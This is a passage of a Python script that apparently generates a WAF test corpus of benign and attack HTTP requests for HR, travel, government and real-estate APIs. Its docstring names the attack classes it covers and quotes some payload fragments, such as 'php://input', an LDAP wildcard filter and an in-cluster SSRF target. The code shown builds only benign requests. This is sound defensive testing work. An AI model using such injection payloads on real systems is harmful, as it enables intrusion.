#!/usr/bin/env python3
"""Held-out HTTP test corpus: HR & recruiting, travel & booking, government
e-services and real estate.

What it is
    A deterministic generator of realistic HTTP requests against the APIs of
    applicant tracking systems (résumé uploads as PDF/DOCX multipart and parsed
    JSON, cover letters), HRIS (employee records, payroll CSV imports/exports,
    org charts, time-off notes), job boards (Boolean search with quotes and
    parentheses), travel booking (IATA flight search, PNRs, passenger names such
    as O'Connor / D'Souza / Nuñez, seat maps, NDC XML and EDIFACT-like strings,
    hotel geo search), government citizen portals (tax forms with long numeric
    ids, addresses with "#" and "/", appointment booking, e-signature callbacks,
    SAML/OIDC logins) and real estate (listing search with price ranges and map
    polygons, RESO/OData $filter queries, editor HTML in property descriptions,
    mortgage calculators), all running in Kubernetes.  Names with apostrophes,
    skills like "C#, C++, .NET, SQL, shell scripting", Boolean search syntax and
    OData expressions make this a hard false-positive test for a WAF.

    * benign       ~500 ordinary requests (expect "pass"), plus ~50 "dev-content"
                   requests (category "dev-content", still "pass"): engineers'
                   résumés with code snippets, an HR analyst's SQL in a reporting
                   tool, DevOps job posts with shell commands, counted apart.
    * attacks      ~260 requests (expect "detect") with real attack payloads in
                   the domain's own injection points (job search SQLi, stored XSS
                   in cover letters and listing descriptions, résumé filename
                   traversal, converter command injection, XXE in NDC/SOAP and
                   DOCX, SSRF via profile import / webhooks / e-signature
                   callbacks, SSTI in offer-letter templates, OData injection,
                   LDAP injection in the employee directory, CRLF in redirects,
                   Log4Shell in HR fields, formula injection in payroll CSV...).

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-hrtravel.py attacks > rulesets/tests/data/hrtravel-attacks.jsonl
    python3 scripts/corpus-hrtravel.py benign  > rulesets/tests/data/hrtravel-benign.jsonl
    python3 scripts/corpus-hrtravel.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "hrtravel", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight (2026-12-05, palisade-rules at cda46ff, binary /tmp/pr-new11)
------------------------------------------------------------------------
Counts: 275 attacks (sqli 42, xss 34, ssrf 26, rce 25, lfi 21, java 20,
xxe 18, ssti 16, generic 12, nosqli 12, ldapi 11, php 11, crlf 10,
protocol 9, rfi 8), 569 benign (519 ordinary + 50 dev-content).
(protocol/smuggling-002 carries a second, conflicting Content-Length on
purpose; every other body's Content-Length is its UTF-8 byte length.)

PL1 (flagged = blocked at paranoia 1), run once, nothing tuned:
  attacks blocked   271/275 = 98.5 %  (100 % in crlf, generic, java, lfi,
                    nosqli, protocol, rce, rfi, sqli, ssti, xss, xxe;
                    ssrf 25/26, ldapi 10/11, php 9/11)
  benign blocked    0/519 = 0.0 % ordinary, 33/50 = 66 % dev-content

Missed (4): php/upload-php-005 (bare "php://input" inside an uploaded JPEG's
content), php/upload-php-009 (PHP serialized object in an uploaded file's
content), ssrf/callback-ssrf-018 (webhook to an in-cluster
*.svc.cluster.local service), ldapi/directory-ldapi-009 (a complete
"(&(objectClass=person)(cn=*))" filter as an LDAP login username).
Dev-content flagged: hr_sql 10/10, devops_job 10/10, resume_code 8/12,
assessment 5/10, search_tech 0/8 (SQL keywords, $(pwd), <script src=...>,
setTimeout(, "| sort", "print(os.environ").
"""

import base64
import json
import random
import re
import sys
import urllib.parse
import zlib

SET = "hrtravel"

HOSTS = {
    "ats": "careers-api.talentforge.io",
    "hris": "hris.peoplegrid.internal",
    "jobs": "jobs.hirewell.com",
    "payroll": "payroll.peoplegrid.internal",
    "travel": "api.skyway-booking.com",
    "hotel": "hotels.skyway-booking.com",
    "ndc": "ndc.skyway-booking.com",
    "gov": "eservices.citizen.gov.example",
    "tax": "tax.citizen.gov.example",
    "esign": "esign.citizen.gov.example",
    "idp": "login.citizen.gov.example",
    "re": "api.homefinder.example",
    "reso": "reso.mlsgrid.example",
    "mortgage": "mortgage.homefinder.example",
}

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
]
API_UAS = [
    "okhttp/4.12.0", "python-requests/2.32.3", "axios/1.7.7", "Go-http-client/2.0",
    "Apache-HttpClient/5.3 (Java/21.0.4)", "SkywayMobile/5.12.0 (iOS 18.1)",
    "TalentForge-Sync/2.4 (+https://talentforge.io)", "node-fetch/3.3.2",
]

FIRST = ["Siobhan", "Liam", "Priya", "Mateo", "Aoife", "Chen", "Fatima", "Jürgen",
         "Zoë", "Olumide", "Ana", "Dmitri", "Grace", "Kenji", "Inés", "Ravi",
         "Noor", "Björn", "Camille", "Tomás", "Léa", "Amara", "Hannah", "José"]
LAST = ["O'Connor", "D'Souza", "Nuñez", "O'Brien", "Müller", "García-López",
        "Nguyen", "Smith-Jones", "van der Berg", "Kowalski", "D'Angelo", "Okafor",
        "Fernández", "McAllister", "Øster", "Al-Sayed", "Lefèvre", "Tanaka",
        "Dell'Orto", "St. John", "O'Neill", "Ramírez", "Ó Súilleabháin", "Park"]
CITIES = ["Austin", "Denver", "Coeur d'Alene", "Portland", "San José", "Dublin",
          "Zürich", "Lyon", "Raleigh", "St. Louis", "Québec", "Winston-Salem"]
IATA = ["JFK", "LHR", "CDG", "FRA", "DUB", "SFO", "LAX", "ORD", "AMS", "MAD",
        "NRT", "SIN", "DXB", "BOS", "SEA", "YYZ", "MEX", "GRU", "BCN", "ZRH"]
AIRLINES = ["AA", "BA", "LH", "AF", "EI", "UA", "DL", "KL", "IB", "LX", "EK"]
SKILLS = ["SQL", "C#", "C++", ".NET", "Node.js", "shell scripting", "Python",
          "Scala", "Kubernetes", "Terraform", "React", "PL/SQL", "Go", "Rust",
          "R", "T-SQL", "AWS", "Azure DevOps", "Power BI", "SAP SuccessFactors",
          "Workday", "Excel (VLOOKUP, pivot tables)", "Java/Spring", "UX/UI"]
TITLES = ["Data Engineer", "Senior Software Engineer (C#/.NET)", "HR Business Partner",
          "Payroll Specialist", "Site Reliability Engineer", "Travel Consultant",
          "Product Manager – Mobile", "Recruiter (Tech & Ops)", "Accountant / Controller",
          "Front-end Developer (React/TypeScript)", "Nurse – ICU (Nights)",
          "Real-Estate Agent", "Mortgage Loan Officer", "Policy Analyst, Grade 7"]


def enc(s, safe=""):
    """Percent-encode a query component as a browser would."""
    return urllib.parse.quote(s, safe=safe)


def penc(s, safe=""):
    """Percent-encode, but keep %XX escapes a client already applied (pre-encoded payloads)."""
    if "%" not in s or re.search(r"%(?![0-9A-Fa-f]{2})", s):
        return enc(s, safe)
    parts = re.split(r"(%[0-9A-Fa-f]{2})", s)
    return "".join(x if re.fullmatch(r"%[0-9A-Fa-f]{2}", x) else enc(x, safe) for x in parts)


def qs(pairs):
    return "&".join(f"{enc(k, '[]$')}={penc(str(v), ',:')}" for k, v in pairs)


def form(pairs):
    return "&".join(f"{enc(str(k))}={penc(str(v)).replace('%20', '+')}" for k, v in pairs)


def jdump(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def token(r, n=32):
    return "".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(n))


def jwt(r):
    def b(o):
        return base64.urlsafe_b64encode(json.dumps(o).encode()).rstrip(b"=").decode()
    return ".".join([b({"alg": "RS256", "typ": "JWT", "kid": token(r, 8)}),
                     b({"sub": str(r.randint(10000, 99999)), "iss": "https://login.citizen.gov.example",
                        "aud": "portal", "exp": 1796000000 + r.randint(0, 99999)}),
                     token(r, 43)])


def name(r):
    return r.choice(FIRST), r.choice(LAST)


def pnr(r):
    return "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))


def date(r, year=2027):
    return f"{year}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}"


def mkreq(r, kind, method, path, query=None, body=None, ctype=None, extra=None,
          browser=None, auth=True):
    """Build one request dict (without id/category/expect)."""
    uri = path + (("?" + query) if query else "")
    if browser is None:
        browser = r.random() < 0.55
    h = [["Host", HOSTS[kind]]]
    h.append(["User-Agent", r.choice(UAS if browser else API_UAS)])
    h.append(["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
              if browser and method == "GET" and r.random() < 0.3 else "application/json, text/plain, */*"])
    if browser:
        h.append(["Accept-Language", r.choice(["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.6",
                                               "fr-FR,fr;q=0.9", "es-ES,es;q=0.9,en;q=0.5", "ga-IE,en-IE;q=0.8"])])
        h.append(["Accept-Encoding", "gzip, deflate, br"])
    if auth:
        if browser:
            h.append(["Cookie", f"session={token(r, 40)}; csrftoken={token(r, 32)}; lang=en"])
        else:
            h.append(["Authorization", "Bearer " + jwt(r)])
    if extra:
        h.extend(extra)
    if body is not None:
        h.append(["Content-Type", ctype or "application/json"])
        h.append(["Content-Length", str(len(body.encode("utf-8")))])
    req = {"method": method, "uri": uri, "version": "HTTP/1.1", "headers": h}
    if body is not None:
        req["body"] = body
    return req


def multipart(r, fields, files):
    """fields: [(name, value)], files: [(field, filename, ctype, content)]."""
    boundary = "----WebKitFormBoundary" + token(r, 16)
    parts = []
    for k, v in fields:
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n')
    for field, fn, ct, content in files:
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{fn}"\r\n'
                     f'Content-Type: {ct}\r\n\r\n{content}\r\n')
    parts.append(f"--{boundary}--\r\n")
    return "".join(parts), f"multipart/form-data; boundary={boundary}"


def fake_pdf(r, text="Curriculum Vitae"):
    return (f"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            f"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
            f"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n"
            f"4 0 obj\n<< /Length {len(text) + 30} >>\nstream\nBT /F1 12 Tf 72 720 Td ({text}) Tj ET\nendstream\nendobj\n"
            f"trailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n")


# ---------------------------------------------------------------- benign: HR


def b_job_search(r):
    qs_ = ['"data engineer" AND (Python OR Scala) NOT senior', "nurse night shift",
           "C# developer remote", "C++ embedded (automotive OR aerospace)",
           '"payroll specialist" -contract', "product manager & growth",
           "O'Reilly Media editor", "part-time / weekend barista", ".NET Core + Azure",
           '"site reliability" OR SRE OR "platform engineer"', "node.js 100% remote",
           "HR business partner (EMEA)", "travel agent – corporate accounts",
           "entry-level; no experience", "driver CDL class A", "sales exec €50k–60k",
           "teacher K-12 or \"special education\"", "react/typescript", "data analyst SQL Tableau"]
    params = [("q", r.choice(qs_)), ("location", r.choice(CITIES)),
              ("radius", r.choice([10, 25, 50])), ("page", r.randint(1, 6))]
    if r.random() < 0.5:
        params.append(("salary_min", r.choice([40000, 55000, 80000, 120000])))
    if r.random() < 0.4:
        params.append(("type", r.choice(["full-time", "part-time", "contract", "internship"])))
    if r.random() < 0.3:
        params.append(("sort", r.choice(["relevance", "date:desc", "salary:desc"])))
    return mkreq(r, "jobs", "GET", "/api/v2/jobs/search", qs(params), browser=True, auth=r.random() < 0.4)


def b_resume_upload(r):
    fn, ln = name(r)
    ext = r.choice(["pdf", "pdf", "docx"])
    fname = r.choice([f"{fn}_{ln}_CV.{ext}", f"Resume - {fn} {ln} (2027).{ext}",
                      f"CV_{ln.replace(' ', '_')}_final_v3.{ext}", f"lebenslauf-{fn.lower()}.{ext}"])
    if ext == "pdf":
        content, ct = fake_pdf(r, f"{fn} {ln} - {r.choice(TITLES)}"), "application/pdf"
    else:
        content = ("PK\u0003\u0004\u0014\u0000\u0006\u0000\u0008\u0000[Content_Types].xml"
                   + token(r, 60) + "PK\u0003\u0004word/document.xml" + token(r, 80))
        ct = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    body, mct = multipart(r, [("job_id", str(r.randint(10000, 99999))), ("source", r.choice(["linkedin", "indeed", "referral", "careers-site"])),
                              ("first_name", fn), ("last_name", ln), ("email", f"{fn.lower()}.{r.randint(1, 99)}@example.com")],
                          [("resume", fname, ct, content)])
    return mkreq(r, "ats", "POST", "/api/v1/applications", body=body, ctype=mct, browser=True, auth=False)


def b_parsed_resume(r):
    fn, ln = name(r)
    doc = {"candidate": {"name": f"{fn} {ln}", "email": f"{fn.lower()}@example.org",
                         "phone": f"+1 (512) 555-{r.randint(1000, 9999)}",
                         "linkedin": f"https://www.linkedin.com/in/{fn.lower()}-{ln.lower().replace(' ', '').replace(chr(39), '')}-{r.randint(100, 999)}a/",
                         "location": f"{r.choice(CITIES)}, {r.choice(['TX', 'CO', 'OR', 'Ireland', 'Switzerland'])}"},
           "skills": r.sample(SKILLS, 6),
           "experience": [{"title": r.choice(TITLES), "company": r.choice(["Acme Corp.", "Smith & Sons, LLC", "O'Hare Logistics", "AT&T", "Procter & Gamble"]),
                           "from": f"{r.randint(2012, 2020)}-0{r.randint(1, 9)}", "to": "present",
                           "summary": "Led migration of 30+ services; cut build time by 40% (from ~20 min to <12 min)."}],
           "salary_expectation": r.choice(["€50k–60k", "$95,000 - $110,000", "£45k+", "negotiable"]),
           "languages": ["English (C2)", "Español (B2)"]}
    return mkreq(r, "ats", "POST", f"/api/v1/candidates/{r.randint(100000, 999999)}/profile",
                 body=jdump(doc), browser=False)


def b_cover_letter(r):
    fn, ln = name(r)
    co = r.choice(["HireWell", "Skyway", "the City of Raleigh", "O'Malley & Partners"])
    text = (f"Dear Hiring Manager,\n\nI'm excited to apply for the \"{r.choice(TITLES)}\" role at {co}. "
            f"In my last job I've managed a team of 8 and reduced time-to-hire from 45 to 28 days. "
            f"I'd love to bring that experience -- and my fluency in SQL & Excel -- to your team.\n\n"
            f"P.S. My references (incl. my former manager, Mr. {r.choice(LAST)}) are available on request.\n\n"
            f"Kind regards,\n{fn} {ln}")
    if r.random() < 0.5:
        body = form([("application_id", r.randint(1000, 9999)), ("cover_letter", text), ("consent_gdpr", "on")])
        ct = "application/x-www-form-urlencoded"
    else:
        body, ct = jdump({"applicationId": r.randint(1000, 9999), "coverLetter": text}), "application/json"
    return mkreq(r, "ats", "POST", "/api/v1/applications/cover-letter", body=body, ctype=ct, browser=True)


def b_employee(r):
    fn, ln = name(r)
    if r.random() < 0.5:
        eid = f"E{r.randint(10000, 99999)}"
        return mkreq(r, "hris", "GET", f"/api/employees/{eid}",
                     qs([("fields", "id,name,title,manager,costCenter,location"), ("expand", "manager")]), browser=False)
    rec = {"firstName": fn, "lastName": ln, "preferredName": fn[:3],
           "title": r.choice(TITLES), "department": r.choice(["R&D", "Sales & Marketing", "HR / People Ops", "Finance"]),
           "managerId": f"E{r.randint(10000, 99999)}", "startDate": date(r),
           "address": {"line1": f"{r.randint(1, 999)} {r.choice(['Main St', 'Rue de l’Église', 'Elm Ave'])} #{r.randint(1, 40)}",
                       "line2": f"Apt {r.randint(1, 20)}/{r.choice('ABC')}", "city": r.choice(CITIES), "postalCode": f"{r.randint(10000, 99999)}"},
           "emergencyContact": {"name": f"{r.choice(FIRST)} {ln}", "relation": "spouse", "phone": f"+353 87 {r.randint(100, 999)} {r.randint(1000, 9999)}"}}
    return mkreq(r, "hris", r.choice(["PUT", "PATCH"]), f"/api/employees/E{r.randint(10000, 99999)}", body=jdump(rec), browser=True)


def b_timeoff(r):
    notes = ["Family wedding in Cork – back on the 14th.", "Doctor's appointment (dentist) 2-4pm",
             "Moving house; will check Slack occasionally :)", "Jury duty - letter attached",
             "Half day: kid's school play @ 1pm", "Religious holiday (Eid al-Adha)",
             "Covering for Sam's on-call 12/24 -> swap 12/31", "N/A", "Parental leave (paternity), 6 weeks"]
    body = jdump({"employeeId": f"E{r.randint(10000, 99999)}", "type": r.choice(["PTO", "SICK", "UNPAID", "PARENTAL"]),
                  "start": date(r), "end": date(r), "hours": r.choice([4, 8, 16, 40]), "note": r.choice(notes)})
    return mkreq(r, "hris", "POST", "/api/time-off/requests", body=body, browser=True)


def b_orgchart(r):
    return mkreq(r, "hris", "GET", f"/api/org/E{r.randint(10000, 99999)}/reports",
                 qs([("depth", r.randint(1, 4)), ("include", "vacant,contractors"), ("format", r.choice(["tree", "flat"]))]),
                 browser=True)


def b_directory(r):
    fn, ln = name(r)
    q = r.choice([ln, f"{fn} {ln}", fn[:3], f"{ln}*", "Dublin office", "team: payroll & benefits"])
    return mkreq(r, "hris", "GET", "/api/directory/search", qs([("q", q), ("limit", 25)]), browser=True)


def b_payroll_csv(r):
    rows = ["employee_id,last_name,first_name,gross,deductions,net,currency,cost_center,memo"]
    for _ in range(r.randint(3, 8)):
        fn, ln = name(r)
        g = r.randint(2500, 9000)
        d = round(g * 0.31, 2)
        last = f'"{ln}"' if "," in ln or "'" in ln else ln
        rows.append(f"E{r.randint(10000, 99999)},{last},{fn},{g}.00,{d},{g - d:.2f},EUR,CC-{r.randint(100, 999)},"
                    + r.choice(["", "bonus Q3", '"overtime, 12h"', "-5% adj. (retro)", "back pay 2026/11"]))
    csv = "\n".join(rows) + "\n"
    if r.random() < 0.5:
        body, ct = multipart(r, [("period", f"2027-{r.randint(1, 12):02d}"), ("dry_run", "true")],
                             [("file", f"payroll_{r.randint(1, 12):02d}_2027.csv", "text/csv", csv)])
        return mkreq(r, "payroll", "POST", "/api/v1/imports/payroll", body=body, ctype=ct, browser=True)
    return mkreq(r, "payroll", "POST", "/api/v1/imports/payroll?format=csv&period=2027-03", body=csv,
                 ctype="text/csv; charset=utf-8", browser=False)


def b_payroll_export(r):
    return mkreq(r, "payroll", "GET", "/api/v1/exports/payslips",
                 qs([("from", date(r)), ("to", date(r)), ("format", r.choice(["csv", "xlsx", "pdf"])),
                     ("columns", "id,name,gross,net"), ("cost_center", f"CC-{r.randint(100, 999)}")]), browser=True)


def b_interview(r):
    fn, ln = name(r)
    body = jdump({"candidateId": r.randint(10000, 99999), "panel": [f"{r.choice(FIRST)} {r.choice(LAST)}" for _ in range(2)],
                  "slot": f"{date(r)}T{r.randint(8, 17):02d}:30:00+01:00", "durationMin": r.choice([30, 45, 60]),
                  "location": r.choice(["Zoom", "Room 4.12 / Bldg B", "Teams: https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc"]),
                  "notes": f"Please bring ID; {fn} prefers 'she/her'. Technical round covers C# & SQL."})
    return mkreq(r, "ats", "POST", "/api/v1/interviews", body=body, browser=True)


def b_offer(r):
    fn, ln = name(r)
    body = jdump({"candidate": f"{fn} {ln}", "template": "offer-standard-eu", "salary": r.choice([52000, 61000, 78500]),
                  "currency": "EUR", "range": "€50k–60k", "startDate": date(r),
                  "variables": {"manager_name": f"{r.choice(FIRST)} {r.choice(LAST)}", "bonus_pct": "10%", "equity": "1,200 RSUs / 4y"}})
    return mkreq(r, "ats", "POST", "/api/v1/offers/preview", body=body, browser=True)


def b_profile_import(r):
    fn, ln = name(r)
    url = r.choice([f"https://www.linkedin.com/in/{fn.lower()}-{r.randint(100, 999)}/",
                    f"https://github.com/{fn.lower()}{r.randint(1, 99)}", f"https://{fn.lower()}.dev/cv.pdf",
                    f"https://stackoverflow.com/users/{r.randint(10000, 999999)}/{fn.lower()}"])
    return mkreq(r, "ats", "POST", "/api/v1/candidates/import", body=jdump({"url": url, "consent": True}), browser=True)


# ------------------------------------------------------------ benign: travel


def b_flight_search(r):
    o, d = r.sample(IATA, 2)
    p = [("origin", o), ("destination", d), ("departDate", date(r)), ("adults", r.randint(1, 4)),
         ("cabin", r.choice(["ECONOMY", "PREMIUM_ECONOMY", "BUSINESS"]))]
    if r.random() < 0.6:
        p.append(("returnDate", date(r)))
    if r.random() < 0.3:
        p += [("children", 1), ("infants", 0), ("currency", r.choice(["EUR", "USD", "GBP"]))]
    if r.random() < 0.3:
        p.append(("carriers", ",".join(r.sample(AIRLINES, 2))))
    if r.random() < 0.2:
        return mkreq(r, "travel", "POST", "/v3/shopping/flight-offers",
                     body=jdump({"originDestinations": [{"id": "1", "originLocationCode": o, "destinationLocationCode": d,
                                                         "departureDateTimeRange": {"date": date(r), "time": "10:00:00"}}],
                                 "travelers": [{"id": "1", "travelerType": "ADULT"}], "sources": ["GDS"],
                                 "searchCriteria": {"maxFlightOffers": 50, "flightFilters": {"cabinRestrictions": [{"cabin": "BUSINESS", "coverage": "MOST_SEGMENTS"}]}}}),
                     browser=False)
    return mkreq(r, "travel", "GET", "/v2/flights/search", qs(p), browser=True, auth=False)


def b_booking(r):
    pax = []
    for i in range(r.randint(1, 3)):
        fn, ln = name(r)
        pax.append({"id": str(i + 1), "title": r.choice(["MR", "MS", "MRS", "DR"]), "firstName": fn.upper(),
                    "lastName": ln.upper(), "dob": f"19{r.randint(60, 99)}-0{r.randint(1, 9)}-1{r.randint(0, 9)}",
                    "loyalty": {"program": r.choice(AIRLINES), "number": str(r.randint(10 ** 8, 10 ** 9))},
                    "documents": [{"type": "PASSPORT", "number": f"P{r.randint(1000000, 9999999)}", "nationality": r.choice(["IE", "US", "ES", "DE"])}]})
    body = jdump({"offerId": token(r, 12), "passengers": pax,
                  "contact": {"email": "traveller@example.com", "phone": "+1-512-555-0199"},
                  "remarks": r.choice(["Wheelchair assistance (WCHR) at LHR", "Vegetarian meal – VGML", "", "Traveling w/ infant; bassinet pls"])})
    return mkreq(r, "travel", "POST", "/v2/bookings", body=body, browser=True)


def b_pnr(r):
    fn, ln = name(r)
    if r.random() < 0.6:
        return mkreq(r, "travel", "GET", "/v2/bookings/retrieve",
                     qs([("pnr", pnr(r)), ("lastName", ln)]), browser=True, auth=False)
    return mkreq(r, "travel", "GET", f"/v2/bookings/{pnr(r)}", qs([("include", "segments,ssr,tickets")]), browser=False)


def b_seatmap(r):
    body = jdump({"flightOfferId": token(r, 10), "segment": f"{r.choice(AIRLINES)}{r.randint(10, 9999)}",
                  "selections": [{"passengerId": "1", "seat": f"{r.randint(1, 42)}{r.choice('ABCDEF')}"}]})
    if r.random() < 0.5:
        return mkreq(r, "travel", "GET", f"/v2/seatmaps/{r.choice(AIRLINES)}{r.randint(10, 999)}/{date(r)}",
                     qs([("cabin", "Y"), ("pnr", pnr(r))]), browser=True)
    return mkreq(r, "travel", "PUT", f"/v2/bookings/{pnr(r)}/seats", body=body, browser=True)


def b_hotel(r):
    lat, lon = round(r.uniform(-40, 60), 6), round(r.uniform(-120, 30), 6)
    p = [("lat", lat), ("lng", lon), ("radius", r.choice([2, 5, 10])), ("radiusUnit", "KM"),
         ("checkIn", date(r)), ("checkOut", date(r)), ("rooms", 1), ("adults", r.randint(1, 3)),
         ("amenities", "WIFI,POOL,PARKING"), ("ratings", "4,5")]
    if r.random() < 0.3:
        p.append(("q", r.choice(["Hôtel de l'Europe", "Marriott & Suites", "B&B near O'Hare", "Inn @ the Park"])))
    return mkreq(r, "hotel", "GET", "/v1/hotels/search", qs(p), browser=True, auth=False)


def b_ndc(r):
    o, d = r.sample(IATA, 2)
    fn, ln = name(r)
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<IATA_AirShoppingRQ xmlns="http://www.iata.org/IATA/2015/00/2019.2/IATA_AirShoppingRQ">\n'
           f'  <DistributionChain><DistributionChainLink><Ordinal>1</Ordinal><OrgRole>Seller</OrgRole>'
           f'<ParticipatingOrg><Name>Skyway Booking</Name><OrgID>SKY{r.randint(100, 999)}</OrgID></ParticipatingOrg></DistributionChainLink></DistributionChain>\n'
           f'  <Request><FlightRequest><FlightRequestOriginDestinationsCriteria><OriginDestCriteria>'
           f'<OriginDepCriteria><IATA_LocationCode>{o}</IATA_LocationCode><Date>{date(r)}</Date></OriginDepCriteria>'
           f'<DestArrivalCriteria><IATA_LocationCode>{d}</IATA_LocationCode></DestArrivalCriteria>'
           f'</OriginDestCriteria></FlightRequestOriginDestinationsCriteria></FlightRequest>\n'
           f'  <PaxList><Pax><PaxID>PAX1</PaxID><PTC>ADT</PTC><Individual><GivenName>{fn}</GivenName>'
           f'<Surname>{ln.replace("&", "&amp;")}</Surname></Individual></Pax></PaxList></Request>\n'
           '</IATA_AirShoppingRQ>\n')
    return mkreq(r, "ndc", "POST", "/ndc/19.2/AirShopping", body=xml, ctype="application/xml; charset=utf-8",
                 browser=False, extra=[["SOAPAction", '"AirShopping"']] if r.random() < 0.3 else None)


def b_edifact(r):
    fn, ln = name(r)
    seg = (f"UNA:+.? 'UNB+IATB:1+SKYWAY+{r.choice(AIRLINES)}+270314:1200+{r.randint(1000, 9999)}'"
           f"UNH+1+PAXLST:D:05B:UN:IATA'BGM+745'NAD+MS+++{ln.upper().replace(chr(39), '?' + chr(39))}'"
           f"TDT+20+{r.choice(AIRLINES)}{r.randint(100, 999)}'LOC+125+{r.choice(IATA)}'DTM+189:2703141200:201'"
           f"NAD+FL+++{ln.upper().replace(chr(39), '?' + chr(39))}:{fn.upper()}'DOC+P:110:111+{r.randint(10 ** 7, 10 ** 8)}'"
           f"UNT+9+1'UNZ+1+{r.randint(1000, 9999)}'")
    return mkreq(r, "ndc", "POST", "/edi/paxlst", body=seg, ctype="application/EDIFACT", browser=False)


def b_loyalty(r):
    return mkreq(r, "travel", "GET", f"/v1/loyalty/{r.choice(AIRLINES)}/{r.randint(10 ** 8, 10 ** 9)}/activity",
                 qs([("from", date(r, 2026)), ("type", "FLIGHT,PARTNER"), ("page", 1)]), browser=True)


# --------------------------------------------------- benign: government, real estate


def b_tax_form(r):
    fn, ln = name(r)
    pairs = [("taxpayer_id", f"{r.randint(100, 999)}-{r.randint(10, 99)}-{r.randint(1000, 9999)}"),
             ("return_id", str(r.randint(10 ** 15, 10 ** 16))), ("year", "2026"),
             ("first_name", fn), ("last_name", ln),
             ("address", f"{r.randint(1, 9999)} {r.choice(['Oak St.', 'Av. de la Paz', 'Route 9'])} #{r.randint(1, 300)}"),
             ("address2", f"Unit {r.randint(1, 50)}/B, c/o {r.choice(LAST)}"),
             ("income_wages", f"{r.randint(30000, 150000)}.00"), ("deduction_charity", f"{r.randint(0, 5000)}"),
             ("filing_status", r.choice(["single", "married_joint", "hoh"])), ("declaration", "I declare that the information is true & complete")]
    return mkreq(r, "tax", "POST", "/forms/1040/step/3", body=form(pairs),
                 ctype="application/x-www-form-urlencoded", browser=True)


def b_gov_upload(r):
    fn, ln = name(r)
    fname = r.choice(["proof_of_address.pdf", f"passport scan {ln}.pdf", "birth-certificate (certified copy).pdf",
                      "utility bill – March.pdf", "W-2_2026.pdf"])
    body, ct = multipart(r, [("case_id", f"GOV-{r.randint(2026, 2027)}-{r.randint(100000, 999999)}"),
                             ("doc_type", r.choice(["PROOF_ADDRESS", "ID", "INCOME"]))],
                         [("document", fname, "application/pdf", fake_pdf(r, "Scanned document"))])
    return mkreq(r, "gov", "POST", "/api/cases/documents", body=body, ctype=ct, browser=True)


def b_appointment(r):
    if r.random() < 0.5:
        return mkreq(r, "gov", "GET", "/api/appointments/slots",
                     qs([("service", r.choice(["passport-renewal", "drivers-license", "marriage-license"])),
                         ("office", r.choice(["Downtown #2", "North/Eastside", "City Hall"])), ("from", date(r)), ("days", 14)]),
                     browser=True, auth=False)
    fn, ln = name(r)
    return mkreq(r, "gov", "POST", "/api/appointments", browser=True,
                 body=jdump({"slotId": token(r, 10), "name": f"{fn} {ln}", "phone": "(919) 555-0142",
                             "reason": "Renew passport – old one expires 03/2027; need it for travel to Dublin",
                             "accessibility": "Step-free access please"}))


def b_esign_callback(r):
    env = f"{token(r, 8)}-{token(r, 4)}-{token(r, 4)}-{token(r, 12)}".lower()
    body = jdump({"event": r.choice(["envelope-completed", "recipient-signed", "envelope-voided"]),
                  "envelopeId": env, "signedAt": f"{date(r)}T10:{r.randint(10, 59)}:00Z",
                  "recipient": {"email": "citizen@example.com", "name": " ".join(name(r))},
                  "documents": [{"name": "Form DS-82 (Renewal).pdf", "sha256": token(r, 64).lower()}]})
    return mkreq(r, "esign", "POST", "/hooks/esign/v1", body=body, browser=False, auth=False,
                 extra=[["X-Signature", "sha256=" + token(r, 64).lower()]])


def b_saml(r):
    assertion = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_' + token(r, 20)
                 + '" Version="2.0" IssueInstant="2027-03-14T10:00:00Z"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">'
                 'https://idp.citizen.gov.example/saml</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>'
                 '</samlp:Status></samlp:Response>')
    if r.random() < 0.5:
        body = form([("SAMLResponse", base64.b64encode(assertion.encode()).decode()), ("RelayState", "/portal/my-cases?tab=open")])
